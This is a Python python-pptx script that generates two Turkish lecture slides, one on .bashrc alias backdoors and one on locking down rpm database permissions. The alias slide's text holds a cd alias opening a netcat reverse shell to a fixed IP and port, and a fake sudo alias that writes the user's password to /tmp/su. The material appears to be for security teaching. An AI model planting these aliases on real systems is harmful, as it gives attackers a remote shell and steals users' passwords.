

from dataclasses import dataclass

from lxml import etree
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_SHAPE as Preset
from pptx.enum.text import MSO_ANCHOR as Anchor
from pptx.oxml.ns import qn
from pptx.util import Cm, Pt

# Shared look
BLACK, SLATE, FRAME = "000000", "2E3436", "434343"
WHITE, PALE, CREAM, GREEN = "FFFFFF", "D1D5DB", "FFF2CC", "00FF00"
SLIDE_WIDTH, SLIDE_HEIGHT = 25.4, 14.29
TITLE_BAND, FOOTER_TOP, CONTENT_TOP = 1.6, 13.49, 1.88
INSET = 0.25


@dataclass(frozen=True)
class Area:
    """A rectangle in centimetres."""
    left: float
    top: float
    width: float
    height: float


@dataclass(frozen=True)
class Style:
    font: str
    size: float
    color: str
    bold: bool = False
    underline: bool = False


@dataclass(frozen=True)
class Span:
    text: str
    style: Style


@dataclass(frozen=True)
class BulletPanel:
    area: Area
    style: Style
    items: tuple[str, ...]
    hanging: float = 0.84
    line_spacing: float | None = None
    gap: float = 0


@dataclass(frozen=True)
class CodeBox:
    area: Area
    spans: tuple[Span, ...]


TITLE = Style("Arial", 22, WHITE, bold=True)
SOURCE = Style("Arial", 10, CREAM)
SOURCE_LINK = Style("Arial", 10, CREAM, underline=True)
BODY = Style("Roboto", 12, PALE)
MONO_BODY = Style("Courier New", 13, WHITE, bold=True)
COMMAND = Style("Courier New", 16, GREEN, bold=True)


def rgb(color: str) -> RGBColor:
    return RGBColor.from_string(color)


def shell(color: str) -> Style:
    return Style("Noto Sans Mono", 11, color, bold=True)


def script(color: str) -> Style:
    return Style("Courier New", 11.5, color, bold=True)


# Drawing helpers
def set_frame(shape, anchor=Anchor.TOP, top_inset: float = INSET):
    frame = shape.text_frame
    frame.word_wrap = True
    frame.vertical_anchor = anchor
    frame.margin_left = frame.margin_right = frame.margin_bottom = Cm(INSET)
    frame.margin_top = Cm(top_inset)
    return frame


def add_box(page, area: Area, fill: str | None = SLATE, line: str | None = None):
    box = page.shapes.add_shape(Preset.RECTANGLE, Cm(area.left), Cm(area.top),
                                Cm(area.width), Cm(area.height))
    box.shadow.inherit = False
    if fill:
        box.fill.solid()
        box.fill.fore_color.rgb = rgb(fill)
    else:
        box.fill.background()
    if line:
        box.line.color.rgb = rgb(line)
        box.line.width = Pt(0.75)
    else:
        box.line.fill.background()
    return box


def add_text_box(page, area: Area):
    return page.shapes.add_textbox(Cm(area.left), Cm(area.top),
                                   Cm(area.width), Cm(area.height))


def write(para, *spans: Span) -> None:
    para.alignment = 1
    for span in spans:
        run = para.add_run()
        run.text = span.text
        font, style = run.font, span.style
        font.name, font.size = style.font, Pt(style.size)
        font.bold, font.underline = style.bold, style.underline
        font.color.rgb = rgb(style.color)


def add_bullet(para, style: Style, hanging: float) -> None:
    props = para._p.get_or_add_pPr()
    props.set("marL", str(Cm(1.27)))
    props.set("indent", str(-Cm(hanging)))
    color = etree.SubElement(props, qn("a:buClr"))
    etree.SubElement(color, qn("a:srgbClr"), val=style.color)
    etree.SubElement(props, qn("a:buFont"), typeface=style.font)
    etree.SubElement(props, qn("a:buChar"), char="❏")


def add_bullet_panel(page, panel: BulletPanel) -> None:
    frame = set_frame(add_box(page, panel.area), top_inset=2 * INSET)
    for index, item in enumerate(panel.items):
        para = frame.add_paragraph() if index else frame.paragraphs[0]
        add_bullet(para, panel.style, panel.hanging)
        if panel.line_spacing:
            para.line_spacing = panel.line_spacing
        if index and panel.gap:
            para.space_before = Pt(panel.gap)
        write(para, Span(item, panel.style))


def add_code_box(page, code: CodeBox) -> None:
    box = add_box(page, code.area, fill=None, line=FRAME)
    write(set_frame(box).paragraphs[0], *code.spans)


def add_command(page, area: Area, command: str) -> None:
    frame = set_frame(add_box(page, area), Anchor.MIDDLE)
    write(frame.paragraphs[0], Span(command, COMMAND))


def add_page(deck, title: str):
    """Blank page with background, both bands and the title."""
    page = deck.slides.add_slide(deck.slide_layouts[6])
    page.background.fill.solid()
    page.background.fill.fore_color.rgb = rgb(BLACK)
    add_box(page, Area(0, FOOTER_TOP, SLIDE_WIDTH, SLIDE_HEIGHT - FOOTER_TOP))
    add_box(page, Area(0, 0, SLIDE_WIDTH, TITLE_BAND))
    heading = add_text_box(page, Area(0.43, 0, 21.8, 1.42))
    write(set_frame(heading, Anchor.MIDDLE).paragraphs[0], Span(title, TITLE))
    return page


# Alias page content: one explanation panel and one code box per column
ALIAS_PANELS = (
    BulletPanel(Area(0.43, CONTENT_TOP, 11.58, 8.61), BODY, (
        "Alias, bir komuta alternatif bir ad atanabilen ve genellikle kısaltılmış "
        "bir şekilde kullanılan bir özelliktir.",
        "Saldırganlar,, bu özelliği kullanarak kullanıcıların alias'larına arka "
        "kapı ekleyebilir.",
        "Aşağıda, cd komutu için bir alias kullanarak reverse shell formunda bir "
        "arka kapı oluşturuldu.",
        "Bu arka kapı, belirli bir IP adresi (192.168.2.103) ve port numarası "
        "(9001) üzerinden bir ters kabuk (reverse shell) bağlantısı kurar.",
    ), line_spacing=1.5),
    BulletPanel(Area(12.73, CONTENT_TOP, 11.94, 8.61), BODY, (
        "Aşağıda, sudo komutuna bir takma ad (alias) ekleyerek, kullanıcının sudo "
        "için şifresini girmesini bekleyen sahte bir sudo girişi oluşturur.",
        "Kullanıcıya \"[sudo] password for $USER: \" şeklinde sahte bir sudo "
        "parola girişi mesajı gösterir.",
        "Kullanıcının girdiği şifreyi okur ve /tmp/su dosyasına yazıp kaydeder.",
        "Ardından, /usr/bin/sudo komutunu asıl parametreleriyle birlikte çağırır.",
    ), line_spacing=1.5),
)
ALIAS_CODE = (
    CodeBox(Area(0.43, 10.87, 11.58, 2.06), (
        Span("root@pinkys-palace:~# ", shell(WHITE)),
        Span("alias cd ", shell("4EC9B0")),
        Span("'$(nc 192.168.2.103 9001 -e /bin/bash&); cd'", shell("D69D85")),
    )),
    CodeBox(Area(12.73, 10.87, 11.94, 1.98), (
        Span("alias", script("E9950C")),
        Span(" sudo=", script(WHITE)),
        Span("'echo -n \"[sudo] password for $USER: \" && read -r password && echo "
             "\"$password\" >/tmp/su && /usr/bin/sudo $@'", script("00A67D")),
    )),
)

# Package database page content
RPM_PANEL = BulletPanel(Area(12.27, CONTENT_TOP, 12.47, 10.8), MONO_BODY, (
    "Sistemde kurulu paketler ve bu paketlerin sürümleri ile ilgili bilgiler "
    "kesinlikle son kullanıcıya gösterilmemelidir.",
    "Sürüm bilgisi alınan bir yazılım için açıklık taramak son derece kolaydır.",
), hanging=0.86, gap=10)
RPM_COMMANDS = (
    "$ chown rpm:rpm /var/lib/rpm",
    "$ chmod 750 /var/lib/rpm",
    "$ chown rpm:rpm /var/lib/rpm/*",
    "$ chmod 700 /var/lib/rpm/*",
)
COMMAND_STEP = 1.58


def build_alias_page(deck) -> None:
    page = add_page(deck, "Backdoor: .bashrc - alias komutunun kötüye kullanımı")
    for panel in ALIAS_PANELS:
        add_bullet_panel(page, panel)
    for code in ALIAS_CODE:
        add_code_box(page, code)
    source = add_text_box(page, Area(0, 13.41, SLIDE_WIDTH, 0.88))
    write(set_frame(source).paragraphs[0],
          Span("Kaynak: Fahmi FJ where Linux Backdoors and Where to Find Them on ",
               SOURCE),
          Span("github", SOURCE_LINK))


def build_rpm_page(deck) -> None:
    page = add_page(deck, "Paket veritabanı dosyalarının dışarı kapat (rpm)")
    add_bullet_panel(page, RPM_PANEL)
    for row, command in enumerate(RPM_COMMANDS):
        top = CONTENT_TOP + row * COMMAND_STEP
        add_command(page, Area(0.56, top, 11.43, 1.22), command)


def main() -> None:
    deck = Presentation()
    deck.slide_width, deck.slide_height = Cm(SLIDE_WIDTH), Cm(SLIDE_HEIGHT)
    build_alias_page(deck)
    build_rpm_page(deck)
    deck.save("out.pptx")


if __name__ == "__main__":
    main()
